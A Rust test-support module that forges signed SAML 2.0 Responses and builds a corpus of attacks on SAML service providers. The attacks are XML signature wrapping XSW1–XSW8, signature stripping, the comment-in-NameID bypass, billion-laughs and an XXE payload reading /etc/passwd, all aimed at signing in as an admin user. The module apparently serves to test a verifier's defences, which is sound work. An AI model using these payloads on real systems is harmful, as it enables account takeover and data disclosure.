//! A SAML 2.0 identity provider forger (feature `saml`): signing keys with self-signed
//! certificates made by the `openssl` command, Responses built as XML text with every field
//! settable, signed by the `xmlsec1` command as IdPs sign them (enveloped signature,
//! exclusive canonicalization, RSA-SHA256 or ECDSA-SHA256, a SHA-1 variant), and a corpus of
//! attacks, each a base64 SAMLResponse form value.
//!
//! It does not use patchbay-saml, so verifying what xmlsec1 signed checks that crate's
//! canonicalization against libxml2's byte for byte.

use std::path::Path;
use std::process::Command;
use std::sync::OnceLock;

use base64::Engine as _;
use chrono::{DateTime, SecondsFormat, TimeDelta, Utc};

pub const PROTOCOL: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
pub const ASSERTION: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
const EXC_C14N: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
const XS: &str = "http://www.w3.org/2001/XMLSchema";
const XSI: &str = "http://www.w3.org/2001/XMLSchema-instance";
pub const STATUS_SUCCESS: &str = "urn:oasis:names:tc:SAML:2.0:status:Success";
pub const NAME_ID_EMAIL: &str = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress";

/// The user the attacks of the corpus try to sign in as.
pub const VICTIM: &str = "admin@corp.example";
/// The user the IdP really signed for in the corpus.
pub const SIGNED_USER: &str = "jane.doe@corp.example";

/// A private key and its self-signed certificate, both PEM.
pub struct Key {
    private_pem: String,
    certificate_pem: String,
}

impl Key {
    /// An RSA key of `bits` bits.
    pub fn rsa(bits: u32, common_name: &str) -> Key {
        Key::generate(&["-newkey", &format!("rsa:{bits}")], common_name)
    }

    /// An EC key on P-256.
    pub fn ec_p256(common_name: &str) -> Key {
        Key::generate(&["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"], common_name)
    }

    fn generate(key_args: &[&str], common_name: &str) -> Key {
        let dir = tempfile::tempdir().expect("tempdir");
        let (key, cert) = (dir.path().join("key.pem"), dir.path().join("cert.pem"));
        let mut command = Command::new("openssl");
        command.args(["req", "-x509", "-nodes", "-days", "3650", "-subj", &format!("/CN={common_name}")]);
        command.args(key_args).arg("-keyout").arg(&key).arg("-out").arg(&cert);
        run(command, "openssl", "openssl");
        Key {
            private_pem: std::fs::read_to_string(key).expect("read the key"),
            certificate_pem: std::fs::read_to_string(cert).expect("read the certificate"),
        }
    }

    /// The certificate an account trusts to verify this key's signatures.
    pub fn certificate_pem(&self) -> &str {
        &self.certificate_pem
    }
}

/// Runs a command of an external tool, panicking with how to install it when it is missing
/// and with its error output when it fails.
fn run(mut command: Command, tool: &str, package: &str) {
    let output = match command.output() {
        Ok(output) => output,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            panic!("{tool} is not installed; install it with: apt-get install -y {package}")
        }
        Err(e) => panic!("could not run {tool}: {e}"),
    };
    assert!(output.status.success(), "{tool} failed: {}", String::from_utf8_lossy(&output.stderr));
}

/// The keys the tests sign with, made once per test binary.
pub struct Keys {
    /// The IdP's RSA 2048 key.
    pub rsa: Key,
    /// The IdP's next RSA key (a certificate rollover lists both).
    pub rsa_next: Key,
    /// The IdP's EC P-256 key.
    pub ec: Key,
    /// A key no account trusts.
    pub stranger: Key,
}

pub fn keys() -> &'static Keys {
    static KEYS: OnceLock<Keys> = OnceLock::new();
    KEYS.get_or_init(|| Keys {
        rsa: Key::rsa(2048, "Forged IdP"),
        rsa_next: Key::rsa(2048, "Forged IdP next"),
        ec: Key::ec_p256("Forged IdP EC"),
        stranger: Key::rsa(2048, "Stranger"),
    })
}

/// Which elements carry a Signature template.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Signed {
    Neither,
    Response,
    Assertion,
    Both,
}

/// Signature and digest method of the templates.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Method {
    RsaSha256,
    RsaSha512,
    RsaSha1,
    EcdsaSha256,
}

impl Method {
    fn uris(self) -> (&'static str, &'static str) {
        match self {
            Method::RsaSha256 => {
                ("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "http://www.w3.org/2001/04/xmlenc#sha256")
            }
            Method::RsaSha512 => {
                ("http://www.w3.org/2001/04/xmldsig-more#rsa-sha512", "http://www.w3.org/2001/04/xmlenc#sha512")
            }
            Method::RsaSha1 => ("http://www.w3.org/2000/09/xmldsig#rsa-sha1", "http://www.w3.org/2000/09/xmldsig#sha1"),
            Method::EcdsaSha256 => {
                ("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", "http://www.w3.org/2001/04/xmlenc#sha256")
            }
        }
    }
}

/// How names are written: `samlp:`/`saml:`/`ds:` prefixes, `saml2p:`/`saml2:`/`dsig:`, or
/// default namespaces declared on the elements that change them.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Prefixes {
    Saml,
    Saml2,
    Default,
}

impl Prefixes {
    /// The (protocol, assertion, signature) prefixes; empty for default namespaces.
    fn names(self) -> (&'static str, &'static str, &'static str) {
        match self {
            Prefixes::Saml => ("samlp", "saml", "ds"),
            Prefixes::Saml2 => ("saml2p", "saml2", "dsig"),
            Prefixes::Default => ("", "", ""),
        }
    }
}

/// A SAML attribute of the AttributeStatement.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Attribute {
    pub name: String,
    pub friendly_name: Option<String>,
    pub values: Vec<String>,
}

impl Attribute {
    pub fn new(name: &str, values: &[&str]) -> Attribute {
        Attribute { name: name.into(), friendly_name: None, values: values.iter().map(|v| (*v).into()).collect() }
    }
}

/// A Response as an IdP would send it; every field settable.
#[derive(Clone, Debug)]
pub struct ResponseBuilder {
    pub response_id: String,
    pub assertion_id: String,
    /// The Assertion's Issuer.
    pub issuer: String,
    /// The Response's Issuer, when it has one.
    pub response_issuer: Option<String>,
    pub audience: String,
    pub destination: Option<String>,
    /// The bearer SubjectConfirmationData's Recipient.
    pub recipient: String,
    /// The bearer SubjectConfirmationData's InResponseTo.
    pub in_response_to: Option<String>,
    /// The Response's InResponseTo.
    pub response_in_response_to: Option<String>,
    pub name_id: String,
    pub name_id_format: Option<String>,
    pub session_index: Option<String>,
    pub attributes: Vec<Attribute>,
    pub issue_instant: DateTime<Utc>,
    /// The Conditions' NotBefore.
    pub not_before: DateTime<Utc>,
    /// The Conditions' and the SubjectConfirmationData's NotOnOrAfter.
    pub not_on_or_after: DateTime<Utc>,
    pub status: String,
    pub signed: Signed,
    pub method: Method,
    /// The InclusiveNamespaces PrefixList of the exc-c14n transform and of SignedInfo's
    /// canonicalization.
    pub prefix_list: Option<String>,
    pub prefixes: Prefixes,
}

impl ResponseBuilder {
    /// Answers the request `id` (on the Response and the SubjectConfirmationData).
    pub fn answering(mut self, id: &str) -> ResponseBuilder {
        self.in_response_to = Some(id.into());
        self.response_in_response_to = Some(id.into());
        self
    }

    /// The XML to sign: Signature templates (right after the Issuer, as SAML's schema
    /// wants) where `signed` says.
    pub fn xml(&self) -> String {
        let (p, a, _) = self.prefixes.names();
        let default = self.prefixes == Prefixes::Default;
        let pq = |local: &str| qualified(p, local);
        let aq = |local: &str| qualified(a, local);
        let at = |t: DateTime<Utc>| t.to_rfc3339_opts(SecondsFormat::Secs, true);
        let declarations = if default {
            format!(r#"xmlns="{PROTOCOL}" xmlns:xs="{XS}" xmlns:xsi="{XSI}""#)
        } else {
            format!(r#"xmlns:{p}="{PROTOCOL}" xmlns:{a}="{ASSERTION}" xmlns:xs="{XS}" xmlns:xsi="{XSI}""#)
        };
        // With default namespaces, assertion-namespace elements under the Response declare it.
        let assertion_ns = if default { format!(r#" xmlns="{ASSERTION}""#) } else { String::new() };

        let mut x = String::new();
        x.push_str(&format!(
            r#"<{} {declarations} ID="{}" Version="2.0" IssueInstant="{}""#,
            pq("Response"),
            attr(&self.response_id),
            at(self.issue_instant)
        ));
        if let Some(destination) = &self.destination {
            x.push_str(&format!(r#" Destination="{}""#, attr(destination)));
        }
        if let Some(id) = &self.response_in_response_to {
            x.push_str(&format!(r#" InResponseTo="{}""#, attr(id)));
        }
        x.push_str(">\n");
        if let Some(issuer) = &self.response_issuer {
            x.push_str(&format!("  <{0}{assertion_ns}>{1}</{0}>\n", aq("Issuer"), text(issuer)));
        }
        if matches!(self.signed, Signed::Response | Signed::Both) {
            x.push_str(&self.signature_template(&self.response_id, "  "));
        }
        x.push_str(&format!(
            "  <{0}>\n    <{1} Value=\"{2}\"/>\n  </{0}>\n",
            pq("Status"),
            pq("StatusCode"),
            attr(&self.status)
        ));
        x.push_str(&format!(
            r#"  <{}{assertion_ns} ID="{}" Version="2.0" IssueInstant="{}">"#,
            aq("Assertion"),
            attr(&self.assertion_id),
            at(self.issue_instant)
        ));
        x.push('\n');
        x.push_str(&format!("    <{0}>{1}</{0}>\n", aq("Issuer"), text(&self.issuer)));
        if matches!(self.signed, Signed::Assertion | Signed::Both) {
            x.push_str(&self.signature_template(&self.assertion_id, "    "));
        }
        x.push_str(&format!("    <{}>\n", aq("Subject")));
        let format = self.name_id_format.as_ref().map(|f| format!(r#" Format="{}""#, attr(f))).unwrap_or_default();
        x.push_str(&format!("      <{0}{format}>{1}</{0}>\n", aq("NameID"), text(&self.name_id)));
        x.push_str(&format!(
            "      <{} Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\">\n",
            aq("SubjectConfirmation")
        ));
        let answering =
            self.in_response_to.as_ref().map(|id| format!(r#" InResponseTo="{}""#, attr(id))).unwrap_or_default();
        x.push_str(&format!(
            "        <{} NotOnOrAfter=\"{}\" Recipient=\"{}\"{answering}/>\n",
            aq("SubjectConfirmationData"),
            at(self.not_on_or_after),
            attr(&self.recipient)
        ));
        x.push_str(&format!("      </{}>\n    </{}>\n", aq("SubjectConfirmation"), aq("Subject")));
        x.push_str(&format!(
            "    <{conditions} NotBefore=\"{}\" NotOnOrAfter=\"{}\">\n      <{restriction}>\n        <{audience}>{}</{audience}>\n      </{restriction}>\n    </{conditions}>\n",
            at(self.not_before),
            at(self.not_on_or_after),
            text(&self.audience),
            conditions = aq("Conditions"),
            restriction = aq("AudienceRestriction"),
            audience = aq("Audience"),
        ));
        let session =
            self.session_index.as_ref().map(|s| format!(r#" SessionIndex="{}""#, attr(s))).unwrap_or_default();
        x.push_str(&format!(
            "    <{0} AuthnInstant=\"{1}\"{session}>\n      <{2}>\n        <{3}>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</{3}>\n      </{2}>\n    </{0}>\n",
            aq("AuthnStatement"),
            at(self.issue_instant),
            aq("AuthnContext"),
            aq("AuthnContextClassRef")
        ));
        if !self.attributes.is_empty() {
            x.push_str(&format!("    <{}>\n", aq("AttributeStatement")));
            for attribute in &self.attributes {
                let friendly = attribute
                    .friendly_name
                    .as_ref()
                    .map(|f| format!(r#" FriendlyName="{}""#, attr(f)))
                    .unwrap_or_default();
                x.push_str(&format!(
                    "      <{} Name=\"{}\"{friendly} NameFormat=\"urn:oasis:names:tc:SAML:2.0:attrname-format:basic\">\n",
                    aq("Attribute"),
                    attr(&attribute.name)
                ));
                for value in &attribute.values {
                    x.push_str(&format!(
                        "        <{0} xsi:type=\"xs:string\">{1}</{0}>\n",
                        aq("AttributeValue"),
                        text(value)
                    ));
                }
                x.push_str(&format!("      </{}>\n", aq("Attribute")));
            }
            x.push_str(&format!("    </{}>\n", aq("AttributeStatement")));
        }
        x.push_str(&format!("  </{}>\n</{}>\n", aq("Assertion"), pq("Response")));
        x
    }

    fn signature_template(&self, id: &str, indent: &str) -> String {
        let (_, _, d) = self.prefixes.names();
        let dq = |local: &str| qualified(d, local);
        let declaration = if d.is_empty() { format!(r#"xmlns="{DSIG}""#) } else { format!(r#"xmlns:{d}="{DSIG}""#) };
        let (signature_method, digest_method) = self.method.uris();
        let inclusive = self
            .prefix_list
            .as_ref()
            .map(|list| format!(r#"<ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList="{}"/>"#, attr(list)))
            .unwrap_or_default();
        let lines = [
            format!("<{} {declaration}>", dq("Signature")),
            format!("  <{}>", dq("SignedInfo")),
            format!(r#"    <{0} Algorithm="{EXC_C14N}">{inclusive}</{0}>"#, dq("CanonicalizationMethod")),
            format!(r#"    <{} Algorithm="{signature_method}"/>"#, dq("SignatureMethod")),
            format!(r##"    <{} URI="#{}">"##, dq("Reference"), attr(id)),
            format!("      <{}>", dq("Transforms")),
            format!(
                r#"        <{} Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#,
                dq("Transform")
            ),
            format!(r#"        <{0} Algorithm="{EXC_C14N}">{inclusive}</{0}>"#, dq("Transform")),
            format!("      </{}>", dq("Transforms")),
            format!(r#"      <{} Algorithm="{digest_method}"/>"#, dq("DigestMethod")),
            format!("      <{0}></{0}>", dq("DigestValue")),
            format!("    </{}>", dq("Reference")),
            format!("  </{}>", dq("SignedInfo")),
            format!("  <{0}></{0}>", dq("SignatureValue")),
            format!("  <{0}><{1}><{2}></{2}></{1}></{0}>", dq("KeyInfo"), dq("X509Data"), dq("X509Certificate")),
            format!("</{}>", dq("Signature")),
        ];
        lines.iter().map(|line| format!("{indent}{line}\n")).collect()
    }

    /// The ids of the elements that carry a template, innermost first (the Assertion's
    /// signature is part of what the Response's covers).
    fn signed_ids(&self) -> Vec<&str> {
        match self.signed {
            Signed::Neither => vec![],
            Signed::Response => vec![&self.response_id],
            Signed::Assertion => vec![&self.assertion_id],
            Signed::Both => vec![&self.assertion_id, &self.response_id],
        }
    }

    /// The Response signed with `key` by xmlsec1.
    pub fn sign(&self, key: &Key) -> String {
        sign(&self.xml(), key, &self.signed_ids())
    }

    /// The SAMLResponse form value of the Response signed with `key`.
    pub fn encoded(&self, key: &Key) -> String {
        encode(&self.sign(key))
    }
}

fn qualified(prefix: &str, local: &str) -> String {
    if prefix.is_empty() {
        local.to_owned()
    } else {
        format!("{prefix}:{local}")
    }
}

fn text(value: &str) -> String {
    value.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

fn attr(value: &str) -> String {
    text(value).replace('"', "&quot;")
}

/// `xml` signed by xmlsec1 with `key`: the Signature templates under the elements of `ids`,
/// in that order (inner ones first).
pub fn sign(xml: &str, key: &Key, ids: &[&str]) -> String {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = |name: &str| dir.path().join(name);
    std::fs::write(path("key.pem"), &key.private_pem).expect("write the key");
    std::fs::write(path("cert.pem"), &key.certificate_pem).expect("write the certificate");
    std::fs::write(path("0.xml"), xml).expect("write the template");
    for (step, id) in ids.iter().enumerate() {
        xmlsec1_sign(dir.path(), &format!("{step}.xml"), &format!("{}.xml", step + 1), id);
    }
    std::fs::read_to_string(path(&format!("{}.xml", ids.len()))).expect("read the signed response")
}

fn xmlsec1_sign(dir: &Path, input: &str, output: &str, id: &str) {
    let mut command = Command::new("xmlsec1");
    command
        .current_dir(dir)
        .args(["--sign", "--privkey-pem", "key.pem,cert.pem"])
        .args(["--id-attr:ID", &format!("{ASSERTION}:Assertion")])
        .args(["--id-attr:ID", &format!("{PROTOCOL}:Response")])
        .args(["--node-id", id, "--output", output, input]);
    run(command, "xmlsec1", "xmlsec1");
}

/// The SAMLResponse form value of `xml`.
pub fn encode(xml: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(xml)
}

/// An IdP and the service provider it sends to; builds valid Responses and the attacks.
#[derive(Clone, Debug)]
pub struct Forger {
    pub issuer: String,
    pub sp_entity_id: String,
    pub acs_url: String,
    pub now: DateTime<Utc>,
}

impl Forger {
    pub fn new(issuer: &str, sp_entity_id: &str, acs_url: &str, now: DateTime<Utc>) -> Forger {
        Forger { issuer: issuer.into(), sp_entity_id: sp_entity_id.into(), acs_url: acs_url.into(), now }
    }

    /// A valid unsolicited Response for [`SIGNED_USER`], the Assertion signed with RSA-SHA256,
    /// valid from a minute ago for five minutes.
    pub fn response(&self) -> ResponseBuilder {
        ResponseBuilder {
            response_id: format!("_r{}", uuid::Uuid::new_v4().simple()),
            assertion_id: format!("_a{}", uuid::Uuid::new_v4().simple()),
            issuer: self.issuer.clone(),
            response_issuer: Some(self.issuer.clone()),
            audience: self.sp_entity_id.clone(),
            destination: Some(self.acs_url.clone()),
            recipient: self.acs_url.clone(),
            in_response_to: None,
            response_in_response_to: None,
            name_id: SIGNED_USER.into(),
            name_id_format: Some(NAME_ID_EMAIL.into()),
            session_index: Some("_session1".into()),
            attributes: vec![
                Attribute::new("email", &[SIGNED_USER]),
                Attribute {
                    name: "urn:oid:2.16.840.1.113730.3.1.241".into(),
                    friendly_name: Some("displayName".into()),
                    values: vec!["Jane Doe".into()],
                },
                Attribute::new("groups", &["agents", "supervisors"]),
            ],
            issue_instant: self.now,
            not_before: self.now - TimeDelta::minutes(1),
            not_on_or_after: self.now + TimeDelta::minutes(5),
            status: STATUS_SUCCESS.into(),
            signed: Signed::Assertion,
            method: Method::RsaSha256,
            prefix_list: None,
            prefixes: Prefixes::Saml,
        }
    }

    fn signed(&self, signed: Signed) -> ResponseBuilder {
        ResponseBuilder { signed, ..self.response() }
    }

    /// A valid Response (unsolicited), as replay and unsolicited-login tests need.
    pub fn valid(&self) -> String {
        self.response().encoded(&keys().rsa)
    }

    /// A valid Response answering the request `id`.
    pub fn valid_in_response_to(&self, id: &str) -> String {
        self.response().answering(id).encoded(&keys().rsa)
    }

    // XML Signature Wrapping, XSW1-XSW8 of Somorovsky et al., "On Breaking SAML: Be Whoever
    // You Want to Be" (USENIX Security 2012), as SAML Raider builds them
    // (https://github.com/CompassSecurity/SAMLRaider, src/main/java/helpers/XSWHelpers.java):
    // the signed element stays somewhere the signature still covers, and an "evil" copy
    // naming VICTIM sits where a careless service provider reads.

    /// XSW1: the signed Response is copied, without its Signature, into that Signature; the
    /// outer Response (new ID) names the victim.
    pub fn xsw1(&self) -> String {
        encode(&self.wrapped_response(|evil, signature, original| {
            insert_at(evil, signature.end - SIGNATURE_END.len(), original)
        }))
    }

    /// XSW2: as XSW1, the copy placed right before the Signature instead of inside it.
    pub fn xsw2(&self) -> String {
        encode(&self.wrapped_response(|evil, signature, original| insert_at(evil, signature.start, original)))
    }

    /// XSW3: an unsigned evil Assertion (new ID) before the signed one.
    pub fn xsw3(&self) -> String {
        let (doc, assertion) = self.signed_assertion();
        let evil = evil_assertion(&doc[assertion.clone()], true, true);
        encode(&format!("{}{evil}{}", &doc[..assertion.start], &doc[assertion.start..]))
    }

    /// XSW4: an unsigned evil Assertion (new ID) holding the signed one.
    pub fn xsw4(&self) -> String {
        let (doc, assertion) = self.signed_assertion();
        let original = &doc[assertion.clone()];
        let evil = evil_assertion(original, true, true);
        let evil = insert_at(&evil, evil.len() - ASSERTION_END.len(), original);
        encode(&format!("{}{evil}{}", &doc[..assertion.start], &doc[assertion.end..]))
    }

    /// XSW5: the signed Assertion's content is changed (new ID, signature kept) and an
    /// unsigned copy of the original is appended to the Response.
    pub fn xsw5(&self) -> String {
        let (doc, assertion) = self.signed_assertion();
        let original = &doc[assertion.clone()];
        let evil = evil_assertion(original, true, false);
        let copy = without_signature(original);
        let doc = format!("{}{evil}{}", &doc[..assertion.start], &doc[assertion.end..]);
        encode(&insert_at(&doc, doc.rfind("</samlp:Response>").expect("Response end"), &copy))
    }

    /// XSW6: as XSW5, the unsigned copy of the original placed inside the evil Assertion's
    /// Signature.
    pub fn xsw6(&self) -> String {
        let (doc, assertion) = self.signed_assertion();
        let original = &doc[assertion.clone()];
        let evil = evil_assertion(original, true, false);
        let signature = span(&evil, SIGNATURE_START, SIGNATURE_END);
        let evil = insert_at(&evil, signature.end - SIGNATURE_END.len(), &without_signature(original));
        encode(&format!("{}{evil}{}", &doc[..assertion.start], &doc[assertion.end..]))
    }

    /// XSW7: an unsigned evil Assertion (same ID) inside an Extensions element before the
    /// signed one.
    pub fn xsw7(&self) -> String {
        let (doc, assertion) = self.signed_assertion();
        let evil = evil_assertion(&doc[assertion.clone()], false, true);
        encode(&format!("{}<Extensions>{evil}</Extensions>{}", &doc[..assertion.start], &doc[assertion.start..]))
    }

    /// XSW8: the signed Assertion names the victim (same ID, signature kept) and the
    /// unsigned original sits in an Object inside its Signature.
    pub fn xsw8(&self) -> String {
        let (doc, assertion) = self.signed_assertion();
        let original = &doc[assertion.clone()];
        let evil = evil_assertion(original, false, false);
        let signature = span(&evil, SIGNATURE_START, SIGNATURE_END);
        let object = format!("<Object>{}</Object>", without_signature(original));
        let evil = insert_at(&evil, signature.end - SIGNATURE_END.len(), &object);
        encode(&format!("{}{evil}{}", &doc[..assertion.start], &doc[assertion.end..]))
    }

    /// A Response signed on the Response, rebuilt by `wrap(evil response, its Signature's
    /// span, the original without its Signature)`.
    fn wrapped_response(&self, wrap: impl Fn(&str, std::ops::Range<usize>, &str) -> String) -> String {
        let response = self.signed(Signed::Response);
        let doc = response.sign(&keys().rsa);
        let start = doc.find("<samlp:Response").expect("Response start");
        let original = doc[start..].trim_end();
        let signature = span(original, SIGNATURE_START, SIGNATURE_END);
        let copy = format!("{}{}", &original[..signature.start], &original[signature.end..]);
        let evil = original
            .replacen(&format!(r#"ID="{}""#, response.response_id), r#"ID="_evil_response_ID""#, 1)
            .replacen(&name_id_text(SIGNED_USER), &name_id_text(VICTIM), 1);
        let signature = span(&evil, SIGNATURE_START, SIGNATURE_END);
        format!("{}{}\n", &doc[..start], wrap(&evil, signature, &copy))
    }

    /// A Response whose Assertion is signed, and the Assertion's span in it.
    fn signed_assertion(&self) -> (String, std::ops::Range<usize>) {
        let doc = self.signed(Signed::Assertion).sign(&keys().rsa);
        let assertion = span(&doc, "<saml:Assertion", ASSERTION_END);
        (doc, assertion)
    }

    /// The signed Response with its Signatures removed.
    pub fn signature_stripped(&self) -> String {
        let mut doc = self.signed(Signed::Both).sign(&keys().rsa);
        while doc.contains(SIGNATURE_START) {
            let signature = span(&doc, SIGNATURE_START, SIGNATURE_END);
            doc.replace_range(signature, "");
        }
        encode(&doc)
    }

    /// Signed with a key no account trusts (its certificate in KeyInfo).
    pub fn signed_by_stranger(&self) -> String {
        self.response().encoded(&keys().stranger)
    }

    /// Signed with RSA-SHA1 and SHA-1 digests.
    pub fn sha1(&self) -> String {
        ResponseBuilder { method: Method::RsaSha1, ..self.response() }.encoded(&keys().rsa)
    }

    pub fn wrong_audience(&self) -> String {
        ResponseBuilder { audience: "https://other-sp.example/saml".into(), ..self.response() }.encoded(&keys().rsa)
    }

    /// The Response (signed) is addressed to another ACS URL.
    pub fn wrong_destination(&self) -> String {
        ResponseBuilder { destination: Some("https://other-sp.example/saml/acs".into()), ..self.signed(Signed::Both) }
            .encoded(&keys().rsa)
    }

    pub fn wrong_recipient(&self) -> String {
        ResponseBuilder { recipient: "https://other-sp.example/saml/acs".into(), ..self.response() }
            .encoded(&keys().rsa)
    }

    /// Valid from ten minutes ago until five minutes ago.
    pub fn expired(&self) -> String {
        ResponseBuilder {
            not_before: self.now - TimeDelta::minutes(10),
            not_on_or_after: self.now - TimeDelta::minutes(5),
            ..self.response()
        }
        .encoded(&keys().rsa)
    }

    /// Valid from five minutes from now.
    pub fn not_yet_valid(&self) -> String {
        ResponseBuilder {
            not_before: self.now + TimeDelta::minutes(5),
            not_on_or_after: self.now + TimeDelta::minutes(10),
            ..self.response()
        }
        .encoded(&keys().rsa)
    }

    /// The IdP signed `admin@corp.example.evil.example` (a name the attacker may register);
    /// a comment is put into the NameID afterwards. Canonicalization drops comments, so the
    /// signature holds; a reader that stops at the comment sees `admin@corp.example`
    /// (CVE-2017-11427 and its family).
    pub fn comment_in_name_id(&self) -> String {
        let signed_name = format!("{VICTIM}.evil.example");
        let doc = ResponseBuilder { name_id: signed_name.clone(), ..self.response() }.sign(&keys().rsa);
        let split = format!(">{VICTIM}<!---->.evil.example<");
        encode(&doc.replacen(&format!(">{signed_name}<"), &split, 1))
    }

    /// A signed Response with a DTD whose nested entities expand a billion-fold ("billion
    /// laughs"), used in the NameID.
    pub fn billion_laughs(&self) -> String {
        let mut dtd = String::from("<!DOCTYPE samlp:Response [\n  <!ENTITY lol0 \"lol\">\n");
        for level in 1..10 {
            let previous = format!("&lol{};", level - 1).repeat(10);
            dtd.push_str(&format!("  <!ENTITY lol{level} \"{previous}\">\n"));
        }
        dtd.push_str("]>\n");
        self.with_dtd(&dtd, "&lol9;")
    }

    /// A signed Response with an external entity (XXE) read into the NameID.
    pub fn external_entity(&self) -> String {
        self.with_dtd("<!DOCTYPE samlp:Response [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n", "&xxe;")
    }

    fn with_dtd(&self, dtd: &str, name_id: &str) -> String {
        let doc = self.response().sign(&keys().rsa);
        let start = doc.find("<samlp:Response").expect("Response start");
        let doc = format!("{}{dtd}{}", &doc[..start], &doc[start..]);
        encode(&doc.replacen(&name_id_text(SIGNED_USER), &name_id_text(name_id), 1))
    }

    /// Two Assertions, each signed by the IdP, the second for the victim.
    pub fn two_assertions(&self) -> String {
        let response = self.response();
        let xml = response.xml();
        let assertion = span(&xml, "<saml:Assertion", ASSERTION_END);
        let second_id = format!("_a{}", uuid::Uuid::new_v4().simple());
        let second = xml[assertion.clone()].replace(&response.assertion_id, &second_id).replacen(
            &name_id_text(SIGNED_USER),
            &name_id_text(VICTIM),
            1,
        );
        let xml = insert_at(&xml, assertion.end, &format!("\n  {second}"));
        encode(&sign(&xml, &keys().rsa, &[&response.assertion_id, &second_id]))
    }

    /// The Response (signed) holds an EncryptedAssertion instead of an Assertion.
    pub fn encrypted_assertion(&self) -> String {
        let response = self.signed(Signed::Response);
        let xml = response.xml();
        let assertion = span(&xml, "<saml:Assertion", ASSERTION_END);
        let cipher = base64::engine::general_purpose::STANDARD.encode(crate::random_bytes(256, 7));
        let encrypted = format!(
            concat!(
                r#"<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" "#,
                r#"Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod "#,
                r#"Algorithm="http://www.w3.org/2009/xmlenc11#aes256-gcm"/><xenc:CipherData><xenc:CipherValue>{}"#,
                r#"</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>"#
            ),
            cipher
        );
        let xml = format!("{}{encrypted}{}", &xml[..assertion.start], &xml[assertion.end..]);
        encode(&sign(&xml, &keys().rsa, &[&response.response_id]))
    }
}

const SIGNATURE_START: &str = "<ds:Signature";
const SIGNATURE_END: &str = "</ds:Signature>";
const ASSERTION_END: &str = "</saml:Assertion>";

/// The span from the first `start` to the end of the first `end` after it.
fn span(doc: &str, start: &str, end: &str) -> std::ops::Range<usize> {
    let from = doc.find(start).unwrap_or_else(|| panic!("{start} not found"));
    let to = from + doc[from..].find(end).unwrap_or_else(|| panic!("{end} not found")) + end.len();
    from..to
}

fn insert_at(doc: &str, at: usize, inserted: &str) -> String {
    format!("{}{inserted}{}", &doc[..at], &doc[at..])
}

fn without_signature(element: &str) -> String {
    let signature = span(element, SIGNATURE_START, SIGNATURE_END);
    format!("{}{}", &element[..signature.start], &element[signature.end..])
}

fn name_id_text(name: &str) -> String {
    format!(">{name}</saml:NameID>")
}

/// A copy of the signed Assertion naming the victim, with a new ID and without its
/// Signature as asked.
fn evil_assertion(original: &str, new_id: bool, drop_signature: bool) -> String {
    let mut evil = original.replacen(&name_id_text(SIGNED_USER), &name_id_text(VICTIM), 1);
    if new_id {
        let id_start = evil.find(" ID=\"").expect("Assertion ID") + 5;
        let id_end = id_start + evil[id_start..].find('"').expect("ID end");
        evil.replace_range(id_start..id_end, "_evil_assertion_ID");
    }
    if drop_signature {
        evil = without_signature(&evil);
    }
    evil
}
